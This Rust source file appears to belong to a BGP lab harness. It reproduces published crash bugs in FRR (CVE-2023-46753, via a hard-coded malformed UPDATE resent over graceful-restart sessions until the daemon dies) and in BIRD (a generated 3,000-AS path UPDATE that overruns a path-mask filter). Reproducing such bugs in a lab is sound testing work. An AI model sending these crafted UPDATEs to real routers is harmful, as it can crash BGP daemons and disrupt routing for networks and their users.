//! Published bugs of the daemons, as scenarios need them: what triggers them, and the configuration they need.

use crate::daemons::Daemon;
use anyhow::{Context, Result};
use std::process::{Command, Stdio};

/// Name and version of the installed daemon, in its own words: a scenario whose bug does not show has to name whom it looked at.
pub fn installed(daemon: Daemon) -> Result<String> {
    let (name, program, option) = match daemon {
        Daemon::Frr => ("FRR", "/usr/lib/frr/bgpd", "--version"),
        Daemon::Bird => ("BIRD", "bird", "--version"),
        Daemon::OpenBgpd => ("OpenBGPD", "/usr/sbin/bgpd", "-V"),
    };
    let out = Command::new(program)
        .arg(option)
        .stdin(Stdio::null())
        .output()
        .with_context(|| format!("starting {program}"))?;
    // FRR says it on standard output, the others on standard error.
    let text = [out.stdout, out.stderr].map(|bytes| String::from_utf8_lossy(&bytes).into_owned()).concat();
    let first = text.lines().next().unwrap_or_default();
    let version = first.split_whitespace().find(|word| word.starts_with(|c: char| c.is_ascii_digit()));
    Ok(format!("{name} {}", version.with_context(|| format!("{program} {option} says {first:?}"))?))
}

/// CVE-2023-46753: FRR up to 9.0 with a route-map that prepends dies of an UPDATE without a path.
pub mod cve_2023_46753 {
    use crate::daemons::Instance;
    use crate::lab::{Lab, Netns, Site, wait_for};
    use crate::operate;
    use crate::replayer::Replayer;
    use anyhow::Result;
    use std::net::IpAddr;
    use std::time::Duration;

    /// How often the UPDATE is sent, each time over a new session, and how long each may take.
    const ATTEMPTS: u32 = 3;
    const EACH: Duration = Duration::from_secs(10);

    /// UPDATE: four unknown attributes, none of the mandatory ones, and 198.51.100.0/24.
    pub const UPDATE: &str =
        "ffffffffffffffffffffffffffffffff002f0200000014ff1f00100004014646464646000446464646464618c63364";

    /// What it is called.
    pub const NAME: &str = "CVE-2023-46753";

    /// Configuration with a route-map that prepends, for what this neighbour says of 198.51.100.0/24 alone: lines for the end of FRR's file.
    pub fn configuration(neighbour: IpAddr) -> String {
        format!(
            "bgp route-map delay-timer 0\nip prefix-list PUBLISHED seq 5 permit 198.51.100.0/24\n\
             route-map IN permit 10\nmatch ip address prefix-list PUBLISHED\nset as-path prepend 65000\nroute-map IN permit 20\n\
             router bgp 65000\naddress-family ipv4 unicast\nneighbor {neighbour} route-map IN in\n"
        )
    }

    /// Gives a running FRR the same.
    pub fn prepend(frr: &Instance, ns: &Netns, neighbour: IpAddr) -> Result<()> {
        let commands = format!("configure terminal\n{}", configuration(neighbour));
        operate::control(frr, ns, &commands).map(|_| ())
    }

    /// Sends what `raw` says (octets in hexadecimal, or a file of them) over new sessions until the daemon is dead; returns the last sender, and
    /// whether it died. FRR misses the check that would save it only where its neighbour offers graceful restart, as virtd does on every leg.
    pub fn send_until_dead(
        lab: &Lab,
        site: &Site,
        raw: &str,
        mut dead: impl FnMut() -> bool,
    ) -> Result<(Replayer, bool)> {
        let mut attempt = 1;
        loop {
            let mut sender = Replayer::dial(lab, site, false, &["--graceful-restart", "--raw", raw])?;
            let died = wait_for("the daemon to die", EACH, &mut dead).is_ok();
            if died || attempt == ATTEMPTS {
                return Ok((sender, died));
            }
            sender.finish()?;
            attempt += 1;
        }
    }
}

/// BIRD up to 2.17.4 with a path mask in a filter runs over an array where the path has some thousands of ASes; extended messages
/// (RFC 8654) carry one.
pub mod as_path_mask {
    use crate::daemons::Instance;
    use crate::lab::Netns;
    use crate::operate;
    use anyhow::{Context, Result, ensure};
    use std::fs;

    /// ASes in the path.
    const LENGTH: u32 = 3_000;

    /// Gives a running BIRD extended messages and the filter, with the mask or without; before its sessions stand, for they are
    /// negotiated at their start.
    pub fn configure(bird: &Instance, ns: &Netns, mask: bool) -> Result<()> {
        let path = bird.folder().join("bgp.conf");
        let text = fs::read_to_string(&path).context("BIRD's configuration")?;
        let look = if mask { "if bgp_path ~ [= * 64999 * =] then reject;" } else { "" };
        let filter = format!("filter masked {{ {look} accept; }}\n\nfilter to_peer {{");
        let text = text
            .replacen("filter to_peer {", &filter, 1)
            .replace("import all;", "import filter masked;")
            .replace("    connect delay time", "    enable extended messages on;\n    connect delay time");
        ensure!(text.contains("import filter masked;"), "BIRD's configuration has no import to filter: {text}");
        fs::write(&path, text)?;
        operate::control(bird, ns, "configure").map(|_| ())
    }

    /// UPDATE of 12,066 octets for 198.51.100.0/24, ordinary and valid, in hexadecimal.
    pub fn update(first_as: u32, next_hop: [u8; 4]) -> String {
        let path: Vec<u32> = (0..LENGTH).map(|n| if n == 0 { first_as } else { 200_000 + n }).collect();
        let segment = |s: &[u32]| {
            let members = s.iter().flat_map(|asn| asn.to_be_bytes());
            [2, s.len() as u8].into_iter().chain(members).collect::<Vec<u8>>()
        };
        let as_path: Vec<u8> = path.chunks(255).flat_map(segment).collect();
        let mut attributes = vec![0x40, 1, 1, 0, 0x50, 2];
        attributes.extend((as_path.len() as u16).to_be_bytes());
        attributes.extend(as_path);
        attributes.extend([0x40, 3, 4]);
        attributes.extend(next_hop);
        let nlri = [24, 198, 51, 100];
        let mut message = vec![0xff; 16];
        message.extend(((23 + attributes.len() + nlri.len()) as u16).to_be_bytes());
        message.extend([2, 0, 0]);
        message.extend((attributes.len() as u16).to_be_bytes());
        message.extend(attributes);
        message.extend(nlri);
        message.iter().map(|b| format!("{b:02x}")).collect()
    }
}
